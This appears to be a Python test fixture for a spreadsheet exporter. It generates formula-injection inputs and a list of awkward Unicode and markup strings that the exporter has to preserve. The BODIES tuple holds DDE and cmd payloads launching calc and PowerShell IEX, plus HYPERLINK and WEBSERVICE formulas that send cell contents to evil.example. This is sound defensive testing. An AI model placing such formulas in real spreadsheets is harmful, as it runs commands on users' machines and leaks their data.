"""Texts that spreadsheets execute, and texts that files lose."""

from __future__ import annotations

import itertools

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "＝", "＋", "－", "＠", " =", "\u3000=", "\u00a0@", "\ufeff=")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"点我")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML(CONCAT("http://evil.example"),"//a")',
    "SUM(1;2)",
    'DDE("cmd";"/C calc";"!A0")',
    "2+5+cmd|' /C powershell IEX'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'INDIRECT("A1")',
    "T(NOW())",
    "5",
)
#: What spreadsheets would run: every start before every body.
ACTIVE = tuple(start + body for start, body in itertools.product(STARTS, BODIES))
#: What must come back as it went in.
DELICATE = (
    "𠮷田䶮",
    "㐂·阿依古丽",
    "👩‍👩‍👧‍👦🇨🇳",
    "第一行\n第二行",
    "逗号,分号;引号\"撇号'",
    " 前后有空格 ",
    "-5",
    "+8613800138000",
    "220403198503051234",
    "00123",
    "1/2",
    "2022-12-31",
    "TRUE",
    "#N/A",
    "1e10",
    "{=1+1}",
    "'=1+1",
    '"=1+1',
    "http://example.com/",
    "mailto:a@example.com",
    "internal:Sheet1!A1",
    "_x0041_",
    "<r><t>粗</t></r>",
    "<r></c></row></sheetData></r>",
    "</t></is></c>",
    "&lt;&amp;",
    "\\n",
    "a\tb",
    "%s %(x)s {0}",
    "\u200e左到右",
    "\u00e9",
    "e\u0301",
)
ALL = ACTIVE + DELICATE
